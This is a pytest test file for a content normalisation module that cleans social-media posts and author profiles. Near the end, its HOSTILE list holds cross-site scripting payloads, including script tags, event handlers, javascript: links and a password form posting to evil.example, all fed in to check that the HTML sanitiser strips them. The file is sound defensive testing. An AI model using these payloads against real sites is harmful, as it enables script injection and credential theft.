"""Signals and authors in one form."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta, timezone

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from hub.core.grammar.markup import _MADE
from hub.core.languages import base_language
from hub.core.model import Counts, Media, Rating, Signal
from hub.core.normalise import LONGEST_TEXT, clean_text, normalise, normalise_author
from tests.hub.core.given import NOW, author, signal

ODD = st.text(st.characters() | st.sampled_from("\r\n\t \x00\u202e\u2066\u0301\ud800\u1112\u1161#İ＃ﬁ"), max_size=30)


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("plain", "plain"),
        ("e\u0301", "é"),
        ("a\x00b\x07c\x85", "abc"),
        ("tab\tand\nline", "tab\tand\nline"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("half \ud83d pair", "half \ufffd pair"),
        ("evil\u202egpj.exe\u202c", "evilgpj.exe"),
        ("a\u2066b\u2069", "ab"),
        ("a\n\n\n\n\n\nb", "a\n\n\nb"),
        ("a\n \n\t\n \n\nb", "a\n\n\nb"),
        ("a\n\n\nb", "a\n\n\nb"),
        ("سلام\u200cها \u200d", "سلام\u200cها \u200d"),
    ],
)
def test_a_text_loses_its_traps_and_nothing_else(raw: str, clean: str) -> None:
    assert clean_text(raw) == clean


def test_a_very_long_text_is_cut_between_graphemes() -> None:
    text = "a" * (LONGEST_TEXT - 1) + "👍🏽" * 3
    assert clean_text(text) == "a" * (LONGEST_TEXT - 1)


@pytest.mark.parametrize(
    ("tag", "base"),
    [
        ("en", "en"),
        ("pt-BR", "pt"),
        ("ZH_Hant_TW", "zh"),
        ("iw", "he"),
        ("yue", "yue"),
        *(("scr", "hr"), ("mol", "ro"), ("kmr", "ku"), ("als", "sq")),
        *((tag, "en") for tag in (" en\n", "en, de", "en-US,en;q=0.9", "en_US.UTF-8", "en@euro")),
        *((tag, None) for tag in ("und", "zxx", "qme", "english", "x1", "", None)),
    ],
)
def test_a_language_is_its_lower_case_base_or_none(tag: str | None, base: str | None) -> None:
    assert base_language(tag) == base


@pytest.mark.parametrize("url", ["javascript:alert(1)", "mailto:a@b.c", "//x.example", "", "https://", "ftp://x.y"])
def test_a_url_that_is_not_http_is_dropped(url: str) -> None:
    assert normalise(signal(url=url)).url is None


def test_a_web_url_is_kept() -> None:
    assert normalise(signal(url=" HTTPS://x.example/ä?b#c ")).url == "HTTPS://x.example/ä?b#c"


def test_media_without_a_web_url_are_dropped() -> None:
    media = (Media("image", "data:image/png;base64,x"), Media("image", "https://x.example/a.png", alt="a\x00b"))
    assert normalise(signal(media=media)).media == (Media("image", "https://x.example/a.png", alt="ab"),)


def test_hashtags_are_lower_case_without_their_sign_and_once() -> None:
    assert normalise(signal(hashtags=("#Acme", "ACME", " acme ", "Ünï", "#"))).hashtags == ("acme", "ünï")


def test_the_conversation_of_a_root_is_its_own_key() -> None:
    assert normalise(signal()).conversation_key == "mastodon:post"
    assert normalise(signal(conversation_key="mastodon:root")).conversation_key == "mastodon:root"


def test_an_author_who_claims_the_future_is_not_believed() -> None:
    claim = NOW + timedelta(minutes=6)
    made = normalise(signal(published_at=claim))
    assert (made.published_at, made.claimed_at) == (NOW, claim)


def test_five_minutes_of_clock_skew_are_forgiven() -> None:
    made = normalise(signal(published_at=NOW + timedelta(minutes=5)))
    assert (made.published_at, made.claimed_at) == (NOW + timedelta(minutes=5), None)


@pytest.mark.parametrize(
    "time",
    [datetime(1, 1, 1), datetime.max.replace(tzinfo=timezone(-timedelta(hours=9)))],  # noqa: DTZ001 - one without a zone
)
def test_the_ends_of_the_calendar_do_no_harm(time: datetime) -> None:
    assert normalise(signal(published_at=time, updated_at=time)).published_at.tzinfo is UTC


def test_times_become_utc() -> None:
    berlin = timezone(timedelta(hours=2))
    assert normalise(signal(updated_at=NOW.astimezone(berlin))).updated_at == NOW
    assert normalise(signal(updated_at=NOW.astimezone(berlin))).updated_at.tzinfo is UTC


CONTENT = [
    {"text": "other"},
    {"title": "other"},
    {"html": "<p>other"},
    {"url": "https://other.example"},
    {"kind": "reply"},
    {"lang": "fr"},
    {"media": (Media("image", "https://other.example"),)},
    {"quotes": "mastodon:other"},
    {"in_reply_to": "mastodon:other"},
    {"rating": Rating(2)},
    {"visibility": "unlisted"},
    {"state": "edited"},
]


@pytest.mark.parametrize("change", CONTENT, ids=lambda change: next(iter(change)))
def test_a_change_of_content_changes_the_hash(change: dict[str, object]) -> None:
    assert normalise(signal(**change)).content_hash != normalise(signal()).content_hash


def test_counts_and_times_do_not_change_the_hash() -> None:
    later = NOW + timedelta(hours=1)
    changed = signal(counts=Counts(likes=9), observed_at=later, updated_at=later, revision="2")
    assert normalise(changed).content_hash == normalise(signal()).content_hash


def test_a_rating_hashes_the_same_after_a_trip_through_json() -> None:
    made = normalise(signal(rating=Rating(5)))
    assert normalise(msgspec.json.decode(msgspec.json.encode(made), type=Signal)).content_hash == made.content_hash


@given(ODD, ODD, st.lists(ODD, max_size=3), st.none() | ODD)
def test_normalising_twice_changes_nothing_more(text: str, title: str, tags: list[str], url: str | None) -> None:
    once = normalise(signal(text, title=title, hashtags=tuple(tags), url=url, html=text, native_id=title or "1"))
    assert normalise(once) == once


@given(ODD)
def test_whatever_comes_in_goes_into_json(text: str) -> None:
    assert msgspec.json.encode(normalise(signal(text, title=text, realm=text, revision=text)))


@given(ODD, ODD)
def test_normalising_an_author_twice_changes_nothing_more(name: str, handle: str) -> None:
    once = normalise_author(author(display_name=name, handle=handle, bio=name, native_id=handle))
    assert normalise_author(once) == once
    assert msgspec.json.encode(once)


def test_an_author_has_names_on_one_line_and_no_at_sign() -> None:
    made = normalise_author(author(handle="@ada ", display_name=" Ada\n Lovelace ", avatar_url="data:x", followers=-1))
    assert made == replace(author(), handle="ada", display_name="Ada Lovelace")


HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:x">x</a>',
    '<p style="background:url(javascript:x)" onclick="x()">x</p>',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form action="https://evil.example"><input name="password"><button>go</button></form>',
    '<iframe src="https://evil.example" srcdoc="<script>x</script>"></iframe>',
    '<object data="x"></object><embed src="x"><base href="https://evil.example/"><meta http-equiv="refresh" content="0">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<video><source onerror="alert(1)"></video><details open ontoggle="alert(1)">',
    "<!--><script>alert(1)</script>-->",
    "<title><script>alert(1)</script>",
    '<p id="app" class="modal" name="x">x</p>',
    '<a href="/deliveries">x</a><a href="//evil.example/">y</a><a href="?x=1">z</a>',
]


@pytest.mark.parametrize("html", HOSTILE)
def test_html_that_runs_or_loads_does_not_reach_a_signal(html: str) -> None:
    made = normalise(signal("x", html=f"<p>before</p>{html}")).html or ""
    shown = re.findall(r"<[^>]*>", made)
    assert made.startswith("<p>before</p>")
    assert not [tag for tag in shown if not re.fullmatch(r'</?(p|b|a)( rel="nofollow noopener")?>', tag)]


def test_html_keeps_what_a_reader_needs() -> None:
    html = "<p>a<br><strong>b</strong> <em>c</em></p><ul><li>d</li></ul><ol><li>e</li></ol><blockquote>f</blockquote>"
    assert normalise(signal("x", html=html)).html == html
    linked = normalise(signal("x", html='<a href="https://x.example/?a=1&amp;b=2" title="t">x</a>')).html
    assert linked == '<a href="https://x.example/?a=1&amp;b=2" title="t" rel="nofollow noopener">x</a>'


@given(st.text(alphabet="<>/\"'= abpscriptonlvg:&;!-", max_size=200))
def test_making_html_safe_twice_changes_nothing(html: str) -> None:
    once = normalise(signal("x", html=html))
    _MADE.clear()
    assert normalise(once).html == once.html


def test_references_leave_no_control_characters_in_html() -> None:
    assert normalise(signal("x", html="<p>a&#8;b&#x202e;c&#xfffe;d</p>")).html == "<p>abcd</p>"
